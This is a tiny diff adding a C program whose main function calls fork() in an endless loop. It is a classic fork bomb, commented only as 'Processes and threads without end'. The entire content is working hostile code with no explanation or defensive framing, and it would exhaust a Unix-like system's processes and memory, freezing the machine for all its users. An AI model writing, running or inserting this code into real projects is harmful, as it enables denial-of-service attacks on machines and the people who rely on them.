@@ -1,0 +1,5 @@
+// Processes and threads without end.
+#include <unistd.h>
+int main(void) {
+  for (;;) fork();
+}
